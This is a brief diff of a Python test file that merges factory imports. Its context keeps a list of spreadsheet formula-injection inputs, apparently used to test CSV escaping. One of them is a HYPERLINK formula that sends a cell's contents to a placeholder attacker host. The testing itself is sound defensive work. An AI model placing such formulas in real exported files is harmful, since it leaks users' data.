@@ -11,12 +11,11 @@ import time_machine
 from clip_tracker import services as clip_services
 from clip_tracker.models import Action, Plan, ProgressUpdate, ReportingPeriod, Theme
 from communities import services as community_services
-from communities.tests.factories import make_community
-from conftest import make_person
 from portal.spreadsheet import csv_text, spreadsheet_safe, spreadsheet_unescape
 from sessions import services as session_services
 from sessions.models import LONDON, SessionSeries
 from sessions.recurrence import Recurrence
+from tests.factories import make_community, make_person
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"]
 
